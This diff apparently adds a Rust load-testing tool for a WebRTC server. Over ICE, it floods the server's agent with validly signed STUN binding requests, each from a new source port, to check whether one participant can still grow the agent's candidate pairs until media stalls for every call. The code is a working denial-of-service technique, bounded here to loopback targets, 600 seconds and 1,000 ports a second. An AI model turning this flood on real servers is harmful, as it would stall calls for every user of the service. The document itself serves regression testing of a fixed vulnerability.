@@ -1,0 +1,256 @@
+//! An attacker's load on a worker's ICE agent: a participant that joins
+//! and connects its media as a browser would, then sends valid binding
+//! requests with its own credentials from a new source port each time.
+//! Each new address used to become a peer-reflexive candidate and a pair
+//! in the worker's ICE agent, never forgotten: the agent grew until the
+//! media thread stalled for every call on it. Run beside `run`, it shows
+//! whether one participant can still do that.
+//!
+//! Bounded like `flood-offers`: loopback targets only, a duration of at
+//! most 600 s, at most 1,000 ports a second; it stops by itself.
+
+use std::collections::VecDeque;
+use std::net::{IpAddr, SocketAddr};
+use std::time::{Duration, Instant};
+
+use anyhow::{anyhow, bail, Context};
+use serde_json::json;
+use str0m::change::SdpAnswer;
+use str0m::ice::{StunMessage, TransId};
+use str0m::media::{Direction, MediaKind};
+use str0m::net::{Protocol, Receive};
+use str0m::{Event, Input, Output};
+use tokio::net::UdpSocket;
+
+use crate::flood::loopback_target;
+use crate::parloir_client::{join, offer, send};
+use crate::webrtc_client::new_rtc;
+
+#[derive(clap::Args)]
+pub struct FloodPortsArgs {
+    /// Parloir URL on this machine (http://127.0.0.1:PORT).
+    #[arg(long)]
+    target: String,
+    /// New source ports a second.
+    #[arg(long, default_value_t = 50.0)]
+    rate: f64,
+    /// Seconds, at most 600.
+    #[arg(long, default_value_t = 30.0)]
+    duration: f64,
+    /// Address the attacker's sockets bind to.
+    #[arg(long, default_value = "127.0.0.1")]
+    client_ip: IpAddr,
+}
+
+/// A stray port is read for answers this long, then closed.
+const KEEP_PORT: Duration = Duration::from_secs(2);
+
+/// What the attacker saw.
+#[derive(Debug, Default)]
+struct Tally {
+    /// Binding requests sent, each from a new port.
+    sent: u64,
+    /// Of those, answered with a success: taken by the worker's agent.
+    answered: u64,
+    /// Its own call connected (DTLS done), and was still up at the end.
+    connected: bool,
+    ended: bool,
+}
+
+/// The answer's ICE credentials and UDP candidate.
+fn server_ice(answer: &str) -> anyhow::Result<(String, String, SocketAddr)> {
+    let attr = |name: &str| {
+        answer
+            .lines()
+            .find_map(|l| l.strip_prefix(name))
+            .map(|v| v.trim().to_string())
+            .ok_or_else(|| anyhow!("no {name} in the answer"))
+    };
+    let ufrag = attr("a=ice-ufrag:")?;
+    let pwd = attr("a=ice-pwd:")?;
+    let udp = answer
+        .lines()
+        .find_map(|line| {
+            let f: Vec<&str> = line
+                .strip_prefix("a=candidate:")?
+                .split_whitespace()
+                .collect();
+            if !f.get(2)?.eq_ignore_ascii_case("udp") {
+                return None;
+            }
+            format!("{}:{}", f.get(4)?, f.get(5)?).parse().ok()
+        })
+        .ok_or_else(|| anyhow!("no UDP candidate in the answer"))?;
+    Ok((ufrag, pwd, udp))
+}
+
+/// A binding request from the client (`ufrag`) to the server, signed with
+/// the server's password: what a browser sends from each of its
+/// candidates.
+fn binding_request(username: &str, server_pwd: &str) -> Vec<u8> {
+    let msg = StunMessage::binding_request(username, TransId::new(), true, 1, 0x6e00_00ff, false);
+    let mut buf = vec![0u8; 256];
+    let n = msg
+        .to_bytes(Some(server_pwd.as_bytes()), &mut buf, hmac_sha1)
+        .expect("a binding request fits in 256 bytes");
+    buf.truncate(n);
+    buf
+}
+
+/// STUN's MESSAGE-INTEGRITY.
+fn hmac_sha1(key: &[u8], parts: &[&[u8]]) -> [u8; 20] {
+    let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA1_FOR_LEGACY_USE_ONLY, key);
+    let mut ctx = aws_lc_rs::hmac::Context::with_key(&key);
+    for p in parts {
+        ctx.update(p);
+    }
+    let mut out = [0u8; 20];
+    out.copy_from_slice(ctx.sign().as_ref());
+    out
+}
+
+async fn attack(base: &str, a: &FloodPortsArgs, until: Instant) -> anyhow::Result<Tally> {
+    let mut t = Tally::default();
+    let room = format!("ports-{:08x}", rand::random::<u32>());
+    let mut ws = join(base, &room, "ports").await?;
+    let sock = UdpSocket::bind((a.client_ip, 0)).await?;
+    let local = sock.local_addr()?;
+    let mut rtc = new_rtc(local)?;
+    let mut change = rtc.sdp_api();
+    change.add_media(MediaKind::Audio, Direction::SendOnly, None, None, None);
+    let (sdp, pending) = change.apply().ok_or_else(|| anyhow!("nothing to offer"))?;
+    let answer = match offer(&mut ws, &sdp.to_sdp_string()).await? {
+        Ok(answer) => answer,
+        Err(m) => bail!("offer refused: {m}"),
+    };
+    let (server_ufrag, server_pwd, _) = server_ice(&answer)?;
+    rtc.sdp_api()
+        .accept_answer(pending, SdpAnswer::from_sdp_string(&answer)?)?;
+    let username = format!(
+        "{server_ufrag}:{}",
+        rtc.direct_api().local_ice_credentials().ufrag
+    );
+    let request = binding_request(&username, &server_pwd);
+
+    let interval = Duration::from_secs_f64(1.0 / a.rate);
+    let mut next_stray = Instant::now();
+    let mut strays: VecDeque<(Instant, std::net::UdpSocket)> = VecDeque::new();
+    let mut server = None;
+    let mut buf = vec![0u8; 2048];
+    loop {
+        let timeout = loop {
+            match rtc.poll_output()? {
+                Output::Timeout(t) => break t,
+                Output::Transmit(tx) => {
+                    server = Some(tx.destination);
+                    let _ = sock.send_to(&tx.contents, tx.destination).await;
+                }
+                Output::Event(Event::Connected) => t.connected = true,
+                Output::Event(_) => {}
+            }
+        };
+        let now = Instant::now();
+        if now >= until || !rtc.is_alive() {
+            t.ended = !rtc.is_alive();
+            break;
+        }
+        // Each stray port is read for the worker's answer, then closed.
+        while let Some((opened, s)) = strays.front() {
+            while let Ok(n) = s.recv(&mut buf) {
+                if StunMessage::parse(&buf[..n]).is_ok_and(|m| m.is_successful_binding_response()) {
+                    t.answered += 1;
+                }
+            }
+            if now.duration_since(*opened) < KEEP_PORT {
+                break;
+            }
+            strays.pop_front();
+        }
+        if let (true, Some(server)) = (t.connected && now >= next_stray, server) {
+            let s = std::net::UdpSocket::bind((a.client_ip, 0))?;
+            s.set_nonblocking(true)?;
+            if s.send_to(&request, server).is_ok() {
+                t.sent += 1;
+            }
+            strays.push_back((now, s));
+            next_stray += interval;
+            // Behind by more than a second (a busy machine): no catching up.
+            next_stray = next_stray.max(now - Duration::from_secs(1));
+        }
+        let wake = timeout
+            .min(until)
+            .min(if t.connected { next_stray } else { until });
+        tokio::select! {
+            r = sock.recv_from(&mut buf) => {
+                let (n, source) = r?;
+                if let Ok(contents) = buf[..n].try_into() {
+                    let input = Input::Receive(Instant::now(), Receive {
+                        proto: Protocol::Udp, source, destination: local, contents,
+                    });
+                    let _ = rtc.handle_input(input);
+                }
+            }
+            _ = tokio::time::sleep_until(wake.into()) => {
+                rtc.handle_input(Input::Timeout(Instant::now()))?;
+            }
+        }
+    }
+    let _ = send(&mut ws, json!({"type":"leave"})).await;
+    Ok(t)
+}
+
+pub fn main(a: FloodPortsArgs) -> anyhow::Result<()> {
+    let base = loopback_target(&a.target)?;
+    if !a.client_ip.is_loopback() {
+        bail!("--client-ip must be a loopback address");
+    }
+    if !(a.duration > 0.0 && a.duration <= 600.0) {
+        bail!("--duration must be above 0 and at most 600 s");
+    }
+    if !(a.rate > 0.0 && a.rate <= 1000.0) {
+        bail!("--rate must be above 0 and at most 1,000 ports a second");
+    }
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()?;
+    let started = Instant::now();
+    let until = started + Duration::from_secs_f64(a.duration);
+    let t = rt
+        .block_on(attack(&base, &a, until))
+        .context("the attacker's call")?;
+    println!(
+        "flood-ports: {:.1} s, {:.0} new ports a second; binding requests sent {}, answered {}; own call connected: {}, cut by the server: {}",
+        started.elapsed().as_secs_f64(),
+        a.rate,
+        t.sent,
+        t.answered,
+        t.connected,
+        t.ended
+    );
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_answers_credentials_and_candidate_are_read() {
+        let answer = "v=0\r\na=ice-ufrag:ab12\r\na=ice-pwd:secretsecretsecret\r\n\
+                      a=candidate:1 1 tcp 1 127.0.0.1 9 typ host tcptype passive\r\n\
+                      a=candidate:2 1 udp 2 127.0.0.1 4000 typ host\r\n";
+        let (u, p, c) = server_ice(answer).unwrap();
+        assert_eq!((u.as_str(), p.as_str()), ("ab12", "secretsecretsecret"));
+        assert_eq!(c, "127.0.0.1:4000".parse().unwrap());
+    }
+
+    #[test]
+    fn a_request_is_signed_with_the_servers_password() {
+        let bytes = binding_request("ab12:cd34", "secretsecretsecret");
+        let msg = StunMessage::parse(&bytes).unwrap();
+        assert!(msg.is_binding_request());
+        assert_eq!(msg.split_username(), Some(("ab12", "cd34")));
+        assert!(msg.verify(b"secretsecretsecret", hmac_sha1));
+        assert!(!msg.verify(b"another-password", hmac_sha1));
+    }
+}
